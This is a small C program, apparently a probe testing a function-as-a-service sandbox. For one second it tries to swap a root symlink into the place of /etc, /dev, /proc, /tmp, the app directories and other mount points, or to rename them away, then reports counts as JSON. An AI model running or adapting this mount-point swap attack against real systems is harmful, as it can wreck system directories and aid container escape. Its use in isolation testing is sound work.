/* Tries to put a link in the place of each mount point, of its own container and of whatever else it can write, for a second. */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE */

int main(void)
{
    static const char *const points[] = {"/tmp",  "/app/function", "/app",     "/.faas",
                                         "/proc", "/dev/null",     "/dev/shm", "/run/faas",
                                         "/etc",  "/dev"};
    time_t until = time(NULL) + 1;
    long tries = 0, swapped = 0;

    if (symlink("/", "/tmp/link") < 0 || mkdir("/tmp/folder", 0700) < 0)
        return 1;
    while (time(NULL) <= until) {
        for (size_t i = 0; i < sizeof(points) / sizeof(points[0]); i++) {
            char beside[64];
            snprintf(beside, sizeof(beside), "%s-", points[i]);
            tries++;
            swapped += syscall(SYS_renameat2, -100, "/tmp/link", -100, points[i], EXCHANGE) == 0;
            swapped += symlink("/", beside) == 0;
            swapped += rename(points[i], beside) == 0;
        }
    }
    printf("{\"tries\": %ld, \"swapped\": %ld}\n", tries, swapped);
    return 0;
}
